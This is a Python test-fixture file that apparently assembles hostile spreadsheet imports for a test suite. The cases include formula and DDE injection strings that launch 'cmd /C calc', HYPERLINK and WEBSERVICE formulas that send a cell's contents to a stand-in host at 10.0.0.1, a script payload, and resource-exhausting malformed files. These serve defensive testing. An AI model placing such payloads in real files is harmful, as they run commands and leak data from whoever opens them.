"""Tables to import: formulas in every guise, rubbish, and texts that other programs act upon."""

from tests.api.sheets import HEADER, ROW, csv, xlsx
from tests.hostile.corpus import TAKEN, Content, Hostile, as_table, files

FORMULAS: dict[str, str] = {
    "a formula": "=1+1+cmd",
    "a formula by plus": "+1+1+cmd",
    "a formula by minus": "-1+1+cmd",
    "a formula by at": "@SUM(1+1)",
    "a formula behind a tab": "\t=1+1+cmd",
    "a formula behind a return": "\r=1+1+cmd",
    "a formula behind a blank": " =1+1+cmd",
    "a formula behind a quote": '"=1+1+cmd',
    "a formula in full width": "＝1+1+cmd",
    "a plus in full width": "＋1+1+cmd",
    "a minus in full width": "－1+1+cmd",
    "an at in full width": "＠SUM(1)",
    "a program by DDE": "=cmd|'/C calc'!A0",
    "a program by DDE without a sign": 'DDE("cmd";"/C calc")',
    "a link by formula": '=HYPERLINK("http://10.0.0.1/?"&A1,"点我")',
    "a query by formula": '=WEBSERVICE("http://10.0.0.1/")',
    "a table from elsewhere": "='\\\\10.0.0.1\\[a.xlsx]a'!A1",
    "a link": "http://10.0.0.1/aaaaaa",
    "a link into the book": "internal:Sheet1!A1",
    "a number that is long": "12345678901234567890",
}


def _described(text: str) -> bytes:
    row = list(ROW)
    row[HEADER.index("问题描述")] = text
    return xlsx(HEADER, row)


def _csv(text: str) -> bytes:
    row = list(ROW)
    row[HEADER.index("问题描述")] = text
    return csv(HEADER, row)


TABLE: dict[str, tuple[Content, str]] = {
    **{f"{name} in a cell": (_described(text), TAKEN) for name, text in FORMULAS.items()},
    "a row that never ends": (csv(HEADER, ["x," * 100_000]), "unreadable_file"),
    "a quote that never ends": (csv(HEADER) + b'\r\n"' + b"x" * 200_000, "unreadable_file"),
    "a cell of 1 MB": (_csv("x" * 2**20), "unreadable_file"),
    "200,000 rows": (csv(HEADER) + b"\r\n" + b"x,y\r\n" * 200_000, "unreadable_file"),
    "10 million empty rows": (csv(HEADER) + b"\r\n" * 5_000_000, "unreadable_file"),
    "20 MB without a line": (b"x" * (20 * 2**20), "unreadable_file"),
    "NUL in a cell": (_csv("a\x00bcdef"), "unreadable_file"),
    "half of UTF-16": (b"\xff\xfe\x00\xd8" * 50, "unreadable_file"),
    "bytes that are no text": (b"\xfe\xff\xfd" * 50, "unreadable_file"),
    "UTF-7": (csv(HEADER, ["+ADw-script+AD4-"] * len(HEADER)), "rows_refused"),
    "a page": (b"<html><script>alert(1)</script>", "unreadable_file"),
    "the same column twice": (csv([*HEADER, HEADER[0]], [*ROW, "x"]), "unreadable_file"),
    "a column of ours under a hidden sign": (
        csv(["\u200b" + HEADER[0], *HEADER[1:]], ROW), "unreadable_file"),
    "a unit turned round": (csv(HEADER, ["\u202e市义兴", *ROW[1:]]), "rows_refused"),
    "a date that is a formula": (
        csv(HEADER, [*ROW[:2], "=TODAY()", *ROW[3:]]), "rows_refused"),
    "a date of the year 10000": (
        csv(HEADER, [*ROW[:2], "10000-01-01", *ROW[3:]]), "rows_refused"),
}  # fmt: skip

INPUTS: list[Hostile] = files("table", TABLE, as_table)
